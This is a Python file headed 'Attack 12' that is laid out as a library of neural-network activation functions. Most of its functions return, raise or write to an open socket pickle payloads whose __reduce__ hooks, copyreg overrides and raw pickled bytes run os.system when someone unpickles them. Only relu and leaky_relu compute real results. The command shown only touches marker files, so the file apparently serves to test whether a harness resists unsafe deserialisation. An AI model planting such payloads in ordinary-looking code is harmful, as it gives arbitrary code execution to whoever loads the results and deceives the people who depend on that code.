"""Attack 12: answers and errors that bring code along for whoever would unpickle them."""

import copyreg
import os
import pickle
import stat
import struct

import numpy as np

TRACE = "touch /tmp/left_behind /var/tmp/left_behind"


class Payload:
    def __reduce__(self):
        return os.system, (TRACE,)

    __reduce_ex__ = lambda self, _: (os.system, (TRACE,))

    def __getstate__(self):
        return TRACE


class Told(Exception):
    def __reduce__(self):
        return os.system, (TRACE,)


class Array(np.ndarray):
    def __reduce__(self):
        return os.system, (TRACE,)


copyreg.pickle(np.ndarray, lambda _: (os.system, (TRACE,)))
copyreg.pickle(float, lambda _: (os.system, (TRACE,)))
PICKLED = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x2btouch /tmp/left_behind /var/tmp/left_behind\x85R."


def channel():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise RuntimeError


def step(x):
    return Payload()


def linear(x, slope=1.0):
    return np.array([Payload()] * x.size, dtype=object).reshape(x.shape)


def sigmoid(x):
    os.write(channel(), struct.pack("<Q", len(PICKLED)) + PICKLED)
    return x


def tanh(x):
    raise Told(PICKLED)


def softmax(x, axis=-1):
    return PICKLED


def activation_grad(x, kind, negative_slope=0.01):
    return np.frombuffer(PICKLED, dtype=f"V{len(PICKLED)}")


def log_softmax(x, axis=-1):
    return np.asarray(x).view(Array)


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
